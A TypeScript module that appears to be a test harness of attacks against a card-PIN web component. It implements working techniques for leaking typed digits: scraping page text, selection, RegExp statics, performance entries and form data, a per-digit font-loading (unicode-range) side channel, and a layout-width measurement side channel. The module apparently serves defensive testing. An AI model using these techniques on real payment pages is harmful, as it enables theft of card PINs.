/** Attacks that read or measure what the browser displays or remembers. */
import type { Attack } from '../attack.js';

export const pageText: Attack = {
  title: 'text and markup of the page',
  does: 'Reads `innerText`, `outerHTML`, `getHTML` with shadow roots, `XMLSerializer`, storage, history and the title.',
  shares: 'reads',
  install: ({ capture }) => {
    return () => {
      const { documentElement: root, body } = document;
      capture('innerText', body.innerText);
      capture('outerHTML', root.outerHTML);
      capture('getHTML', root.getHTML({ serializableShadowRoots: true }));
      capture('XMLSerializer', new XMLSerializer().serializeToString(document));
      capture('storage', JSON.stringify({ ...localStorage, ...sessionStorage }));
      capture('history', JSON.stringify(history.state) + location.href + document.title);
    };
  },
};

export const selection: Attack = {
  title: 'selection',
  does: 'Reads `getSelection()` after each key, at each `keyup` and at each `selectionchange`, also while the PIN is revealed.',
  shares: 'reads',
  install: ({ capture }) => {
    const read = () => capture('getSelection', String(getSelection()));
    for (const type of ['selectionchange', 'select', 'selectstart', 'focusin', 'keyup'])
      window.addEventListener(type, read, true);
    return read;
  },
};

export const lastMatch: Attack = {
  title: 'last match of a regular expression',
  does: 'Reads `RegExp.input`, `RegExp.lastMatch` and the like after each key. They hold the text that a regular expression of the page matched last.',
  shares: 'reads',
  install:
    ({ capture }) =>
    () => {
      // A component may check the digits with a regular expression.
      void document.querySelector('set-card-pin')?.validity;
      const { input, lastMatch, leftContext, $1 } = RegExp;
      for (const [by, text] of Object.entries({ input, lastMatch, leftContext, $1 }))
        capture(`RegExp.${by}`, text);
    },
};

export const performanceEntries: Attack = {
  title: 'performance entries',
  does: 'Reads every entry of `performance` and of a `PerformanceObserver` for all types, including resource timing.',
  shares: 'reads',
  install: ({ capture }) => {
    const read = (entries: PerformanceEntryList) => {
      for (const entry of entries) capture(entry.entryType, JSON.stringify([entry.name, entry]));
    };
    const observer = new PerformanceObserver((list) => read(list.getEntries()));
    for (const type of PerformanceObserver.supportedEntryTypes)
      observer.observe({ type, buffered: true });
    return () => read(performance.getEntries());
  },
};

export const formData: Attack = {
  title: 'surrounding form',
  does: 'Listens for `submit` and `formdata`, and reads `new FormData` and the elements of every form in the page.',
  shares: 'reads',
  install: ({ capture, captureFields }) => {
    const read = (data: FormData) => {
      for (const [name, value] of data) capture(name, value);
    };
    addEventListener('formdata', (event) => read(event.formData), true);
    addEventListener('submit', ({ target }) => captureFields('submit', target), true);
    return () => {
      for (const form of document.forms) {
        read(new FormData(form));
        for (const element of form.elements)
          capture('elements', (element as HTMLInputElement).value);
      }
    };
  },
};

export const fonts: Attack = {
  title: 'fonts',
  does: 'Defines a font for each digit (`unicode-range`), which a browser loads when it draws the digit. The element gets the fonts by inheritance, by `::part`, by its custom properties, and under the names of fonts that may draw digits.',
  install: ({ basePath }) => {
    const names = [
      'spy',
      'monospace',
      'ui-monospace',
      'SF Mono',
      'Menlo',
      'Consolas',
      'Liberation Mono',
      'Courier New',
      'DejaVu Sans Mono',
      'system-ui',
      'sans-serif',
    ];
    const faces = names.flatMap((name) =>
      [...'0123456789'].map(
        (digit) => `@font-face {
          font-family: '${name}';
          src: url('${basePath}${name}/${digit}');
          unicode-range: U+3${digit};
        }`,
      ),
    );
    const parts = ['field', 'input', 'form', 'label'].map((part) => `set-card-pin::part(${part})`);
    const sheet = document.createElement('style');
    sheet.textContent = `${faces.join('')}
      :root, set-card-pin, ${parts.join()} {
        font-family: spy !important;
        --set-card-pin-font: spy;
      }`;
    document.documentElement.append(sheet);
  },
};

export const layout: Attack = {
  title: 'layout',
  does: 'Gives each digit a different width with a font for each (`size-adjust`), and measures after each key how much the element has grown.',
  shares: 'reads',
  install: ({ capture }) => {
    const digits = [...'0123456789'];
    const sheet = document.createElement('style');
    const face = (digit: string) => `@font-face {
      font-family: wide;
      src: url('/digits.woff2');
      unicode-range: U+3${digit};
      size-adjust: ${100 + 40 * Number(digit)}%;
    }`;
    sheet.textContent = `${digits.map(face).join('')}
      set-card-pin, set-card-pin::part(field), set-card-pin::part(input), .digit {
        display: inline-block !important;
        max-width: none !important;
        font: 16px wide !important;
        white-space: nowrap !important;
      }
      set-card-pin[frame-src] {
        display: block !important;
      }
      .digit {
        position: absolute;
        bottom: 0;
      }`;
    document.documentElement.append(sheet);
    const rulers = digits.map((digit) => {
      const ruler = document.createElement('span');
      ruler.className = 'digit';
      ruler.textContent = digit;
      return ruler;
    });
    let width = 0;
    return async () => {
      document.body.append(...rulers);
      await document.fonts.ready;
      const element = document.querySelector('set-card-pin')!;
      const { width: now } = element.getBoundingClientRect();
      const digit = rulers.findIndex(
        (ruler) => Math.abs(ruler.getBoundingClientRect().width - (now - width)) < 1.5,
      );
      if (digit >= 0) capture('width', digit);
      width = now;
    };
  },
};
